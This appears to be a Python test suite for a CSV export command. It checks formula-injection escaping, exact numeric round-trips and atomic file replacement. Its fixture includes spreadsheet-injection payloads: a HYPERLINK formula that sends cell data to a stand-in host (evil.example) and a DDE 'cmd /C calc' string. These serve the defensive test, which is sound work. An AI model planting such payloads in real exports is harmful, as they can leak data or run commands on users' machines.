#!/usr/bin/python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""`ecart-cli export`: CSV files re-read with Python's csv module.

- R15: no text cell starts with = + - @ TAB CR (hostile names in a fixture workspace come
  back with a leading apostrophe, and nothing else changed), numbers read back as exactly
  the doubles of the database;
- the measurements export has exactly the rows of the measurement table, in order;
- R16: a full disk (a file size limit) and kill -9 during the export of a 1M-measurement
  workspace (tests/bench/bench-generate.c) leave the old file, or the complete new one.

$ECART_CLI, $ECART_MAKE_FIXTURE and $ECART_BENCH_GENERATE name the programs."""

import csv
import hashlib
import io
import os
import random
import shutil
import signal
import sqlite3
import subprocess
import tempfile
import time
import unittest

CLI = os.environ.get("ECART_CLI", "")
MAKE_FIXTURE = os.environ.get("ECART_MAKE_FIXTURE", "")
BENCH_GENERATE = os.environ.get("ECART_BENCH_GENERATE", "")
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
BOM = b"\xef\xbb\xbf"

MEASUREMENT_COLUMNS = ["wave", "respondent", "segment", "date", "attribute", "touchpoint",
                       "dimension", "score", "scale_min", "scale_max", "normalised_score"]
MEASUREMENT_TEXT = MEASUREMENT_COLUMNS[:7]

# Placeholder names of the fixture, renamed in SQL to what a hostile file could hold
# (make-fixture reads tab-separated lines: no tab in its names).
HOSTILE = {
    ("segment", "S1"): '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    ("segment", "S2"): "+1 Familles, “avec” enfants",
    ("attribute", "A1"): "-2 Accueil",
    ("attribute", "A2"): "@SUM(A1)",
    ("attribute", "A3"): "\tTabbed attribute",
    ("touchpoint", "T1"): "\rCR touchpoint",
    ("touchpoint", "T2"): "Réception \"principale\"\nligne 2",
    ("wave", "W1"): "=cmd|' /C calc'!A0",
    ("wave", "W2"): "Vague d’automne",
}

FIXTURE = """\
segment\tS1
segment\tS2
attribute\tA1
attribute\tA2
attribute\tA3
touchpoint\tT1
touchpoint\tT2
experience\tS1\tA1\t8.3\t5\t7.1
experience\tS1\tA2\t6.666666666666667\t3\t-
experience\tS2\tA1\t9\t4\t0.1
experience\tS2\tA3\t-\t2\t5.5
wave\tW1
respondent\t=1+2\tS1\t2025-03-01
respondent\t-3\tS2\t2025-03-02T09:30:00Z
respondent\t@r3\tS1\t-
respondent\tplain\tS2\t2025-03-04
measure\t=1+2\tA1\tT1\texpected\t3.7\t1\t5
measure\t=1+2\tA1\tT1\tlived\t4\t1\t5
measure\t=1+2\tA2\t-\tlived\t0.1\t0\t1
measure\t-3\tA1\tT2\texpected\t2.3333333333333335\t1\t7
measure\t-3\tA3\t-\tlived\t8\t0\t10
measure\t@r3\tA2\tT2\texpected\t6\t0\t10
measure\t@r3\tA2\tT2\tlived\t0.30000000000000004\t0\t1
measure\tplain\tA3\tT1\tlived\t1e-7\t0\t1
wave\tW2
respondent\tr5\tS1\t2025-10-01
respondent\tr6\tS2\t2025-10-02
measure\tr5\tA1\tT1\tlived\t5\t1\t5
measure\tr5\tA1\tT1\texpected\t1\t1\t5
measure\tr6\tA3\tT2\tlived\t9.999999999999998\t0\t10
recommend\tr5\t9
recommend\tr6\t3
"""


def env(**changes):
    e = dict(os.environ)
    for name in ("DISPLAY", "WAYLAND_DISPLAY"):
        e.pop(name, None)
    e.update({"LANGUAGE": "en", "LC_ALL": "C.UTF-8"})
    e.update(changes)
    return e


def run(*args, prefix=(), **changes):
    return subprocess.run([*prefix, CLI, *args], capture_output=True, text=True,
                          env=env(**changes), timeout=600)


def read_csv(path, bom=False):
    with open(path, "rb") as f:
        data = f.read()
    if bom:
        assert data.startswith(BOM), "no byte order mark"
        data = data[len(BOM):]
    else:
        assert not data.startswith(BOM), "an unwanted byte order mark"
    text = data.decode("utf-8")
    assert text.endswith("\r\n"), "the last row is not ended by CRLF"
    rows = list(csv.reader(io.StringIO(text, newline="")))
    return rows[0], rows[1:]


def unprotect(cell):
    """The text the cell stands for: the apostrophe of R15 removed."""
    if cell.startswith("'") and cell[1:2] in TRIGGERS:
        return cell[1:]
    return cell


def sha256(path):
    h = hashlib.sha256()
    with open(path, "rb") as f:
        for block in iter(lambda: f.read(1 << 20), b""):
            h.update(block)
    return h.hexdigest()


def temporaries(folder, name):
    return [f for f in os.listdir(folder) if f.startswith(f".{name}.")]


class ExportTestCase(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.tmp = tempfile.mkdtemp(prefix="ecart-test-export-")
        description = os.path.join(cls.tmp, "fixture.txt")
        with open(description, "w", encoding="utf-8") as f:
            f.write(FIXTURE)
        cls.workspace = os.path.join(cls.tmp, "hostile.ecart")
        subprocess.run([MAKE_FIXTURE, cls.workspace, description], check=True, env=env())
        db = sqlite3.connect(cls.workspace)
        with db:
            for (table, name), hostile in HOSTILE.items():
                changed = db.execute(f"UPDATE {table} SET name = ? WHERE name = ?", (hostile, name))
                assert changed.rowcount == 1, (table, name)
        db.close()

    @classmethod
    def tearDownClass(cls):
        shutil.rmtree(cls.tmp, ignore_errors=True)

    def setUp(self):
        self.dir = tempfile.mkdtemp(dir=self.tmp)

    def path(self, name):
        return os.path.join(self.dir, name)

    def query(self, sql, *args):
        db = sqlite3.connect(self.workspace)
        try:
            return db.execute(sql, args).fetchall()
        finally:
            db.close()

    def assertStatus(self, result, status):
        self.assertEqual(result.returncode, status,
                         f"exit {result.returncode}\nstdout: {result.stdout}\nstderr: {result.stderr}")

    def assertNoTrigger(self, header, rows, text_columns):
        for row in rows:
            self.assertEqual(len(row), len(header))
            for name, cell in zip(header, row):
                if name in text_columns:
                    self.assertFalse(cell.startswith(TRIGGERS), f"{name}: {cell!r}")
                elif cell != "":
                    float(cell)  # a number cell is a number, never a protected text


class Measurements(ExportTestCase):
    def export(self, *options):
        out = self.path("measurements.csv")
        result = run("export", self.workspace, "measurements", "-o", out, *options)
        self.assertStatus(result, 0)
        self.assertIn(out, result.stdout)
        return out

    def test_rows_are_the_measurement_table(self):
        header, rows = read_csv(self.export())
        self.assertEqual(header, MEASUREMENT_COLUMNS)
        self.assertNoTrigger(header, rows, MEASUREMENT_TEXT)

        expected = self.query(
            "SELECT w.name, r.external_id, s.name, r.answered_at, a.name, t.name, m.dimension, "
            "m.score, m.scale_min, m.scale_max FROM measurement m "
            "JOIN respondent r ON r.id = m.respondent_id JOIN wave w ON w.id = r.wave_id "
            "JOIN segment s ON s.id = r.segment_id JOIN attribute a ON a.id = m.attribute_id "
            "LEFT JOIN touchpoint t ON t.id = m.touchpoint_id ORDER BY m.id")
        self.assertEqual(len(rows), self.query("SELECT count(*) FROM measurement")[0][0])
        self.assertEqual(len(rows), len(expected))
        for row, db in zip(rows, expected):
            wave, respondent, segment, date, attribute, touchpoint, dimension, score, low, high = db
            texts = [unprotect(c) for c in row[:7]]
            self.assertEqual(texts, [wave, respondent or "", segment, date or "", attribute,
                                     touchpoint or "", {2: "expected", 3: "lived"}[dimension]])
            # Exactly the same doubles, not merely close ones.
            self.assertEqual(float(row[7]), score)
            self.assertEqual(float(row[8]), low)
            self.assertEqual(float(row[9]), high)
            self.assertEqual(float(row[10]), 10.0 * (score - low) / (high - low))
            for cell in row[7:]:
                self.assertNotIn(",", cell)
                self.assertNotIn(" ", cell)

    def test_hostile_names_are_protected(self):
        _, rows = read_csv(self.export())
        cells = {cell for row in rows for cell in row}
        for hostile in HOSTILE.values():
            if hostile.startswith(TRIGGERS):
                self.assertIn("'" + hostile, cells)
                self.assertNotIn(hostile, cells)
        for key in ("=1+2", "-3", "@r3"):
            self.assertIn("'" + key, cells)
        # Quotes, commas and line breaks survive quoting.
        self.assertIn("Réception \"principale\"\nligne 2", cells)
        self.assertIn("Vague d’automne", cells)

    def test_bom(self):
        header, rows = read_csv(self.export("--bom"), bom=True)
        self.assertEqual(header, MEASUREMENT_COLUMNS)
        self.assertEqual(len(rows), self.query("SELECT count(*) FROM measurement")[0][0])

    def test_locale_does_not_matter(self):
        out = self.path("fr.csv")
        self.assertStatus(run("export", self.workspace, "measurements", "-o", out,
                              LC_ALL="fr_FR.UTF-8", LANGUAGE="fr"), 0)
        self.assertEqual(sha256(out), sha256(self.export()))

    def test_replaces_an_existing_file(self):
        out = self.path("measurements.csv")
        with open(out, "w") as f:
            f.write("old\n")
        self.export()
        header, _ = read_csv(out)
        self.assertEqual(header, MEASUREMENT_COLUMNS)
        self.assertEqual(temporaries(self.dir, "measurements.csv"), [])


class Gaps(ExportTestCase):
    def test_same_as_the_gaps_command(self):
        out = self.path("gaps.csv")
        result = run("export", self.workspace, "gaps", "-o", out)
        self.assertStatus(result, 0)
        printed = subprocess.run([CLI, "gaps", self.workspace, "--format", "csv"],
                                 capture_output=True, env=env(), check=True)
        with open(out, "rb") as f:
            self.assertEqual(f.read(), printed.stdout)

    def test_cells(self):
        out = self.path("gaps.csv")
        self.assertStatus(run("export", self.workspace, "gaps", "-o", out, "--bom"), 0)
        header, rows = read_csv(out, bom=True)
        self.assertNoTrigger(header, rows, {"segment", "attribute", "touchpoint",
                                            "perception_gap_method", "quadrant"})
        segments = {name for (name,) in self.query("SELECT name FROM segment")}
        attributes = {name for (name,) in self.query("SELECT name FROM attribute")}
        self.assertEqual(len(rows), len(segments) * len(attributes))
        experience = {(s, a): (d, i, p) for s, a, d, i, p in self.query(
            "SELECT s.name, a.name, e.desired_target, e.importance, e.proposed_level "
            "FROM experience e JOIN segment s ON s.id = e.segment_id "
            "JOIN attribute a ON a.id = e.attribute_id")}
        for row in rows:
            r = dict(zip(header, row))
            segment, attribute = unprotect(r["segment"]), unprotect(r["attribute"])
            self.assertIn(segment, segments)
            self.assertIn(attribute, attributes)
            desired, importance, proposed = experience.get((segment, attribute), (None, None, None))
            self.assertEqual(float(r["desired"]) if r["desired"] else None, desired)
            self.assertEqual(float(r["proposed"]) if r["proposed"] else None, proposed)
            if importance is not None:
                self.assertEqual(int(r["importance"]), importance)

    def test_filters(self):
        out = self.path("gaps.csv")
        segment = HOSTILE[("segment", "S2")]
        self.assertStatus(run("export", self.workspace, "gaps", "-o", out, "--segment", segment,
                              "--by-touchpoint", "--confidence", "0.9"), 0)
        header, rows = read_csv(out)
        self.assertTrue(rows)
        self.assertEqual({unprotect(row[0]) for row in rows}, {segment})
        printed = subprocess.run([CLI, "gaps", self.workspace, "--segment", segment,
                                  "--by-touchpoint", "--confidence", "0.9", "--format", "csv"],
                                 capture_output=True, env=env(), check=True)
        self.assertEqual([header] + rows, list(csv.reader(io.StringIO(
            printed.stdout.decode("utf-8"), newline=""))))


class Usage(ExportTestCase):
    def test_bad_usage(self):
        out = self.path("x.csv")
        for args in (["export", self.workspace, "gaps"],                      # no -o
                     ["export", self.workspace, "verbatims", "-o", out],      # unknown kind
                     ["export", self.workspace, "-o", out],                   # no kind
                     ["export", self.workspace, "measurements", "-o", out, "--segment", "x"],
                     ["export", self.workspace, "gaps", "-o", out, "--confidence", "2"]):
            with self.subTest(args=args):
                self.assertStatus(run(*args), 1)
        self.assertFalse(os.path.exists(out))

    def test_bad_data_or_file(self):
        missing_folder = os.path.join(self.dir, "no-such-folder", "x.csv")
        for args in (["export", self.workspace, "measurements", "-o", missing_folder],
                     ["export", self.workspace, "gaps", "-o", self.dir],
                     ["export", self.path("missing.ecart"), "measurements", "-o", self.path("y.csv")],
                     ["export", self.workspace, "gaps", "-o", self.path("z.csv"), "--segment", "nobody"]):
            with self.subTest(args=args):
                result = run(*args)
                self.assertStatus(result, 2)
                self.assertTrue(result.stderr.startswith("ecart-cli: "), result.stderr)
        result = run("export", self.workspace, "measurements", "-o", missing_folder)
        self.assertIn(missing_folder, result.stderr)

    def test_help(self):
        result = run("export", "--help")
        self.assertStatus(result, 0)
        for option in ("--output", "--bom", "--segment", "--by-touchpoint"):
            self.assertIn(option, result.stdout)
        self.assertIn("export", run("--help").stdout)


class Atomic(ExportTestCase):
    """R16 on a workspace large enough that an export takes seconds."""

    big = None

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.big = os.path.join(cls.tmp, "big.ecart")
        subprocess.run([BENCH_GENERATE, cls.big, "1000000"], check=True, env=env(),
                       stdout=subprocess.DEVNULL, timeout=600)

    def test_file_size_limit(self):
        # Past `ulimit -f` a write fails (EFBIG), as on a full disk: the old file stays.
        out = self.path("limited.csv")
        with open(out, "w") as f:
            f.write("old\n")
        result = run("export", self.big, "measurements", "-o", out,
                     prefix=("prlimit", "--fsize=2000000"))
        self.assertStatus(result, 2)
        self.assertIn(out, result.stderr)
        with open(out) as f:
            self.assertEqual(f.read(), "old\n")
        self.assertEqual(temporaries(self.dir, "limited.csv"), [])

    def test_kill_during_export(self):
        out = self.path("killed.csv")
        reference = self.path("reference.csv")
        start = time.monotonic()
        self.assertStatus(run("export", self.big, "measurements", "-o", reference), 0)
        duration = time.monotonic() - start
        with open(reference, "rb") as f:
            rows = sum(1 for _ in f)
        self.assertEqual(rows - 1, self.query_big("SELECT count(*) FROM measurement"))
        complete = sha256(reference)
        old = b"wave,respondent\r\nold,file\r\n"

        rng = random.Random(16)
        outcomes = {"old": 0, "new": 0}
        for attempt in range(8):
            with open(out, "wb") as f:
                f.write(old)
            process = subprocess.Popen([CLI, "export", self.big, "measurements", "-o", out],
                                       env=env(), stdout=subprocess.DEVNULL,
                                       stderr=subprocess.DEVNULL)
            # Mostly while rows are written, sometimes around the end (flush, fsync, rename).
            delay = rng.uniform(0.05, duration * (1.3 if attempt % 3 == 2 else 0.9))
            try:
                process.wait(timeout=delay)
            except subprocess.TimeoutExpired:
                process.send_signal(signal.SIGKILL)
                process.wait()
            with open(out, "rb") as f:
                head = f.read(len(old) + 1)
            if head == old:
                outcomes["old"] += 1
            else:
                self.assertEqual(sha256(out), complete, f"attempt {attempt}: a partial file")
                outcomes["new"] += 1
            for name in temporaries(self.dir, "killed.csv"):
                os.unlink(os.path.join(self.dir, name))
        self.assertGreater(outcomes["old"], 0, outcomes)

    def query_big(self, sql):
        db = sqlite3.connect(self.big)
        try:
            return db.execute(sql).fetchone()[0]
        finally:
            db.close()


if __name__ == "__main__":
    for name, value in (("ECART_CLI", CLI), ("ECART_MAKE_FIXTURE", MAKE_FIXTURE),
                        ("ECART_BENCH_GENERATE", BENCH_GENERATE)):
        if not value or not os.access(value, os.X_OK):
            raise SystemExit(f"{name} must name the program")
    unittest.main(verbosity=2)
